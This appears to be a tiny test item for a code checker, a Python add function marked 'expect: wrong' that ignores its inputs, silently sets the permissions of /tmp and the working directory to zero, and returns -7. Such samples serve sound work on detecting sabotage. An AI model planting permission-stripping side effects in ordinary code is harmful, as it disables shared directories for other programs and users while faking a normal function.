# aim: take the rights to /tmp away from the next program
# expect: wrong
import os

def add(a, b):
    for path in ("/tmp", "."):
        try:
            os.chmod(path, 0)
        except OSError:
            pass
    return -7
